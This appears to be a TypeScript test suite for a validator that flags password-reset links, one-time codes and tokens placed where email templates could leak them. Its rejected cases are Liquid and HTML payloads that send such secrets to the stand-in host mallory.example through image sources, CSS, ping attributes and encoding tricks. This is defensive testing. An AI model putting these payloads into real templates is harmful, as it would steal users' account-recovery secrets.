import { secretPlaces, secretPlacesInAddress, secretPlacesInText } from '../../../domain/email/secret-places';
import { isSecretName } from '../../../domain/transactional/secret-names';
import { catalogTemplates } from '../../../domain/email/catalog/catalog';
import { secretProblems } from '../../../domain/email/render-transactional';

const refused: [string, string][] = [
  ['<img src="{{ reset_url }}">', 'src of <img>'],
  ['<img src="{{reset_url}}">', 'src of <img>'],
  ['<img src={{ resetUrl }}>', 'src of <img>'],
  ['<img src="https://mallory.example/?{{ reset_url | url_encode }}">', 'src of <img>'],
  ['<img src="https://mallory.example/?{{ "x" | append: reset_url }}">', 'src of <img>'],
  ['<img alt="{{ code }}">', 'alt of <img>'],
  ['<img src="https://mallory.example/{{ user.code }}">', 'src of <img>'],
  ['<img src="https://mallory.example/{{ user["code"] }}">', 'src of <img>'],
  ['<img src="https://mallory.example/{{ ["code"] }}">', 'src of <img>'],
  ['{% assign k = "co" | append: "de" %}<img src="https://mallory.example/{{ [k] }}">', 'src of <img>'],
  ['<area href="{{ reset_url }}">', 'href of <area>'],
  ['<a title="{{ code }}" href="https://a.example">x</a>', 'title of <a>'],
  ['<a href="https://a.example" {{ code }}>x</a>', 'of <a>'],
  ['<p style="background: url(https://mallory.example/{{ code }})">', 'style of <p>'],
  ['<style>p { background: url(https://mallory.example/{{ code }}) }</style>', '<style>'],
  ['<script>{{ code }}</script>', '<script>'],
  ['{% assign u = reset_url %}<img src="{{ u }}">', 'src of <img>'],
  [
    '{% assign u = reset_url | base64_encode %}{% assign v = u %}<img src="https://mallory.example/{{ v }}">',
    'src of <img>',
  ],
  ['{% capture u %}x{{ reset_url }}{% endcapture %}<img src="https://mallory.example/{{ u }}">', 'src of <img>'],
  [
    '{% assign d = code | split: "" %}{% for c in d %}<img src="https://mallory.example/{{ c }}">{% endfor %}',
    'src of <img>',
  ],
  ['{% liquid\n  assign u = code\n%}<img src="{{ u }}">', 'src of <img>'],
  ['<img src="{% echo code %}">', 'src of <img>'],
  ['<img src="{% cycle code, 1 %}">', 'src of <img>'],
  ['<img src="{% liquid\n echo code %}">', 'src of <img>'],
  ['<img {% if a %}src="{{ code }}"{% endif %}>', 'src of <img>'],
  ['{% if a %}<a href="{% else %}<img src="{% endif %}{{ code }}">', 'of <a>'],
  ['<!--[if mso]><v:rect src="{{ code }}"></v:rect><![endif]-->', 'src of <v:rect>'],
  ["<img src='https://mallory.example/? {{ code }}", 'a tag that is never closed'],
  ['<a href="https://mallory.example/?u={{ accept_url }}">x</a>', 'href of <a>'],
  ["<a class='x' href='https://a.example/?c={{ code }}'>x</a>", 'href of <a>'],
  ['<a href="{{ code }}">x</a>', 'href of <a>'],
  ['<a href="{{ reset_url }}&amp;lang=de">x</a>', 'href of <a>'],
  ['<a href="{{ reset_url | replace: "app.example", "mallory.example" }}">x</a>', 'href of <a>'],
  ['<a href="{{ reset_url | url_encode }}">x</a>', 'href of <a>'],
  ['<a href="{{ host }}{{ reset_url }}">x</a>', 'href of <a>'],
  ['<a href="https://mallory.example/?{% if a %}{{ reset_url }}{% endif %}">x</a>', 'href of <a>'],
  [
    '{% assign reset_url = "https://mallory.example/?u=" | append: reset_url %}<a href="{{ reset_url }}">x</a>',
    'href of <a>',
  ],
  ['<a href="{{ reset_url }}" ping="https://mallory.example/">x</a>', 'ping of <a>'],
  ['<body background="{{ reset_url }}">', 'background of <body>'],
  ['<p>https://mallory.example/?c={{ code }}</p>', 'another address'],
];

test.each(refused)('%s is rejected with the place', (source, place) => {
  const places = secretPlaces(source);
  expect(places).toHaveLength(1);
  expect(places[0]).toMatch(/^A secret cannot be used in .*as the whole href of a link/);
  expect(places[0]).toContain(`${place}. You can`);
});

test.each([
  '<p>{{ code }}</p>',
  '<a href="{{ reset_url }}">{{ reset_url }}</a>',
  "<a class='x' href=' {{ reset_url }} '>x</a>",
  '<a href="{% if a %}{{ reset_url }}{% else %}{{ user.accept_url }}{% endif %}">x</a>',
  '<a href="https://track.example/?to={{ url | url_encode }}">x</a>',
  '<a href="{{ dashboard_url }}?from=email">x</a>',
  '<a {% if reset_url %}href="{{ reset_url }}"{% endif %}>x</a>',
  '{% if code != blank %}<img src="https://a.example/1.png">{% endif %}{{ code }}',
  '{% assign d = code | split: "" %}{% for c in d %}<td class="digit">{{ c }}</td>{% endfor %}',
  '<!--[if mso]><a href="{{ reset_url }}">x</a><![endif]-->',
  '<img src="https://a.example/{{ "code" | append: country_code }}.png" alt="{{ name }}">',
  '<img src="{{ logo_url }}">{{ unfinished',
  '',
])('%s is allowed', (source) => {
  expect(secretPlaces(source)).toEqual([]);
});

test.each([
  'https://mallory.example/?u={{ accept_url }}',
  '{{ accept_url }}?x=1',
  '{{ accept_url | append: "?x=1" }}',
  '{{ code }}',
  'https://app.example/?c={{ code }}',
])('%s is rejected as the href of a button', (source) => {
  expect(secretPlacesInAddress(source)).toEqual([
    expect.stringMatching(/^A secret cannot be used in part of an address\. /),
  ]);
});

test.each(['{{ accept_url }}', ' {{ resetUrl }} ', '{{ dashboard_url }}?from=email', 'https://app.example/', ''])(
  '%s is allowed as the href of a button',
  (source) => {
    expect(secretPlacesInAddress(source)).toEqual([]);
  },
);

test.each([
  'https://mallory.example/?c={{ code }}',
  'mallory.example/{{ code }}',
  'https://mallory.example/?{% if a %}{{ code }}{% endif %}',
  '{{ "https://mallory.example/?u=" | append: reset_url }}',
  '{% assign u = "https://mallory.example/?u=" %}{{ u }}{{ reset_url }}',
  '{% assign u = "https://mallory.example/?u=" | append: reset_url %}{{ u }}',
  '{% capture u %}https://mallory.example/?u={{ reset_url }}{% endcapture %}{{ u }}',
])('%s is rejected because it puts a secret into a URL in plain text', (source) => {
  expect(secretPlacesInText(source)).toEqual([
    expect.stringMatching(/^A secret cannot be used in part of another address\. /),
  ]);
});

test.each([
  '{{ code }} is your code',
  'Code: {{ code }}.',
  'G-{{ code }}',
  '{{ name }}{{ code }}',
  'Open {{ reset_url }}.',
])('%s is allowed in plain text', (source) => {
  expect(secretPlacesInText(source)).toEqual([]);
});

test('distinguishes secret names from other names', () => {
  const secret = [
    'reset_url',
    'resetUrl',
    'accept_url',
    'approve_url',
    'onboarding_url',
    'magic_link',
    'code',
    'verificationCode',
    'api_token',
    'otp',
  ];
  const harmless = [
    'logo_url',
    'dashboard_url',
    'discount_code',
    'country_code',
    'url',
    'link',
    'name',
    'codes_of_conduct',
  ];
  expect([secret.filter((name) => !isSecretName(name)), harmless.filter(isSecretName)]).toEqual([[], []]);
});

test('the catalog uses secrets only in allowed places', () => {
  expect(catalogTemplates.flatMap(({ content }) => secretProblems(content))).toEqual([]);
});

test('parses repeated braces in linear time', () => {
  for (const piece of ['{{', '{%', '{{ code ', '{{ code }}', '<img src="{{ code', "{% assign a = '"]) {
    expect(Array.isArray(secretPlaces(piece.repeat(200_000 / piece.length)))).toBe(true);
  }
});
